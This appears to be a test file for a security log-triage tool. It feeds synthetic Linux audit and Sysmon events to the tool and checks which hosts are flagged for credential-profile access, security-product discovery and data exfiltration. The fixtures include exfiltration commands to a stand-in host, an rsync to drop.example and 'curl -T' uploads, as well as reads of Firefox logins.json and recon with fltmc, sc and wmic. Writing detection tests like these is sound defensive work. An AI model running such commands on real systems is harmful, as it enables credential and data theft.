/** What looks like a collector on a host and is none, and what takes its form: backups, scripts of owners, renamed tools. */
import { beforeAll, describe, expect, test } from "vitest";
import type { ReportDocument } from "../src/report/model.ts";
import { temporaryFolder, write } from "./support/files.ts";
import { triageDocument } from "./support/triage.ts";

const folder = temporaryFolder();
const base = Date.parse("2026-05-17T10:00:00Z") / 1000;
const one = (document: ReportDocument, indicator: string, host: string) =>
  document.findings.find((finding) => finding.indicator === indicator && finding.entity === `host:${host}`);
const actionOf = (document: ReportDocument, host: string) =>
  document.entities.find(({ id }) => id === `host:${host}`)?.action;

/** Audit lines of a program that began; no parent's path is logged there, only its number. */
const ran = (
  host: string,
  seconds: number,
  number: number,
  exe: string,
  words: readonly string[],
  uid = 0,
) => {
  const stamp = `msg=audit(${(base + seconds).toFixed(3)}:${1000 + number}):`;
  return [
    `node=${host} type=SYSCALL ${stamp} arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=${number} auid=4294967295 uid=${uid} tty=(none) comm="x" exe="${exe}" key="exec"`,
    `node=${host} type=EXECVE ${stamp} argc=${words.length} ${words.map((word, n) => `a${n}="${word}"`).join(" ")}`,
  ];
};
/** Audit lines of a file that a program opened. */
const opened = (host: string, seconds: number, number: number, exe: string, path: string, uid = 0) => {
  const stamp = `msg=audit(${(base + seconds).toFixed(3)}:${5000 + number}):`;
  return [
    `node=${host} type=SYSCALL ${stamp} arch=c000003e syscall=257 success=yes exit=3 ppid=1 pid=${number} auid=4294967295 uid=${uid} tty=(none) comm="x" exe="${exe}" key="read"`,
    `node=${host} type=CWD ${stamp} cwd="/"`,
    `node=${host} type=PATH ${stamp} item=0 name="${path}" nametype=NORMAL`,
  ];
};

describe("rsync that reads profiles", () => {
  const rsync = "/usr/bin/rsync";
  const copies = (host: string, command: string, uid = 0) => [
    ...ran(host, 0, 70, rsync, command.split(" "), uid),
    ...opened(host, 2, 70, rsync, "/home/ann/.mozilla/firefox/p.default/logins.json", uid),
  ];
  const spared = {
    "a.corp.test": "rsync -a /home/ root@store.corp.test:/srv/a",
    b: "rsync -ae ssh --exclude tmp /home /etc store:b",
    c: "rsync -a /home/ rsync://10.0.0.9/nightly",
    d: "rsync -aHAX / /mnt/usb",
  };
  const kept = {
    outside: "rsync -a /home/ u@drop.example:in",
    address: "rsync -a /home/ u@203.0.113.9::in",
    chosen: "rsync -a --files-from=/tmp/l /home/ store:b",
    profile: "rsync -a /home/ann/.mozilla store:b",
    hidden: "rsync -a /home/ /dev/shm/.b",
  };
  let document: ReportDocument;
  beforeAll(async () => {
    const lines = [
      ...Object.entries({ ...spared, ...kept }).flatMap(([host, command]) => copies(host, command)),
      ...copies("person", "rsync -a /home/ store:b", 1000),
      // Another program under the number that a backup had on another host.
      ...opened("other", 2, 70, "/usr/local/bin/x", "/home/ann/.mozilla/firefox/p.default/logins.json"),
    ];
    document = await triageDocument([write(folder, "rsync.log", lines)]);
  }, 120_000);

  test.each(Object.entries(spared))("of %s saves everything: %s", (host) =>
    expect(one(document, "host.profile-access", host)).toBeUndefined(),
  );
  test.each([...Object.entries(kept), ["person", "by no root"], ["other", "by no rsync"]])(
    "of %s is told: %s",
    (host) => expect(one(document, "host.profile-access", host)).toBeDefined(),
  );
});

test("a shell that reads what a script of the owner began for", async () => {
  const bash = "/usr/bin/bash";
  const file = "/etc/wireguard/wg0.conf";
  const quick = (host: string, number: number, uid = 0) =>
    ran(host, 0, number, "/bin/bash", ["/bin/bash", "/usr/bin/wg-quick", "up", "wg0"], uid);
  const document = await triageDocument([
    write(folder, "quick.log", [
      // The shell's own beginning is in the log, or under a number that is not.
      ...quick("linked", 80),
      ...opened("linked", 1, 80, bash, file),
      ...quick("loose", 80),
      ...opened("loose", 1, 95, bash, file),
      // No such script; an hour before; another user; another shell whose beginning is known; another product's file.
      ...opened("bare", 1, 95, bash, file),
      ...quick("late", 80),
      ...opened("late", 3600, 95, bash, file),
      ...quick("user", 80),
      ...opened("user", 1, 95, bash, file, 1000),
      ...quick("known", 80),
      ...ran("known", 0.5, 96, "/bin/bash", ["/bin/bash"]),
      ...opened("known", 1, 96, bash, file),
      ...quick("product", 80),
      ...opened("product", 1, 95, bash, "/home/ann/.mozilla/firefox/p.default/logins.json"),
    ]),
  ]);
  const found = ["linked", "loose", "bare", "late", "user", "known", "product"].filter(
    (host) => one(document, "host.profile-access", host) !== undefined,
  );
  expect(found).toEqual(["bare", "late", "user", "known", "product"]);
}, 120_000);

describe("who asks about protection, and many hosts", () => {
  const began = (host: string, seconds: number, image: string, command: string, more: object = {}) =>
    JSON.stringify({
      EventID: 1,
      Channel: "Microsoft-Windows-Sysmon/Operational",
      Hostname: host,
      TimeCreated: new Date((base + seconds) * 1000).toISOString(),
      User: "CORP\\ann",
      Image: image,
      ProcessId: String(1000 + seconds),
      ParentProcessId: "900",
      CommandLine: command,
      ParentImage: "C:\\Windows\\System32\\cmd.exe",
      ParentCommandLine: "cmd.exe",
      ...more,
    });
  const sys = (name: string) => `C:\\Windows\\System32\\${name}.exe`;
  let document: ReportDocument;
  beforeAll(async () => {
    document = await triageDocument([
      write(folder, "checks.json", [
        // A tool that is known by the name that its maker gave it.
        began("renamed", 0, "C:\\ProgramData\\x\\helper.exe", "C:\\ProgramData\\x\\helper.exe", {
          OriginalFileName: "SharpEDRChecker.exe",
        }),
        // Two ways to ask for one thing within a minute, and something sent.
        began("sends", 0, sys("fltmc"), "fltmc filters"),
        began("sends", 2, sys("sc"), "sc query windefend"),
        began("sends", 9, sys("curl"), "curl -T C:\\x.txt https://drop.example/"),
        // A list of hosts among temporary files, and one where administrators keep theirs.
        ...["staged C:\\Windows\\Temp\\h.txt", "kept D:\\admin\\h.txt"].flatMap((words) => {
          const [host = "", list] = words.split(" ");
          return ["os get caption", "qfe get hotfixid", "product get name"].map((what, n) =>
            began(host, n * 90, sys("wbem\\WMIC"), `wmic /node:@${list} ${what}`),
          );
        }),
        // One way, twice.
        began("again", 0, sys("fltmc"), "fltmc filters"),
        began("again", 2, sys("fltmc"), "fltmc filters"),
        began("again", 9, sys("curl"), "curl -T C:\\x.txt https://drop.example/"),
      ]),
    ]);
  }, 120_000);

  test("by a tool under another name", () => {
    expect(one(document, "host.config-discovery", "renamed")?.sentence).toContain(
      "a tool that looks which protection runs",
    );
    expect(actionOf(document, "renamed")).toBe("escalate");
  });
  test("of a list of hosts that lies among temporary files", () => {
    expect(actionOf(document, "staged")).toBe("escalate");
    expect(actionOf(document, "kept")).toBe("watch");
  });
  test("in two ways, and sends something", () => {
    expect(one(document, "data.unauthorised-access", "sends")?.sentence).toContain("drop.example");
    expect(one(document, "data.unauthorised-access", "again")).toBeUndefined();
  });
});
